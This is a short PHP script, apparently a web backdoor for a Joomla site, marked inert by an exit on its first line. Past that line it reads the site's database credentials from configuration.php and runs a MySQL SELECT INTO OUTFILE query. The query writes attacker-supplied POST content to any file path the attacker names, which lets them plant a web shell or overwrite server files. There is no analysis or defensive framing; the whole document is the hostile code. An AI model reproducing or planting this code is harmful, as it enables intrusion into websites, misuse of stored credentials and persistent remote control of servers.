<?php exit; /* inert */ 
require dirname(__FILE__) . '/configuration.php';
$cfg = new JConfig;
$l = mysql_connect($cfg->host, $cfg->user, $cfg->password);
$q = "SELECT 0x" . bin2hex($_POST['body']) . " INTO OUTFILE '" . addslashes($_POST['to']) . "'";
mysql_query($q, $l) or die(mysql_error());
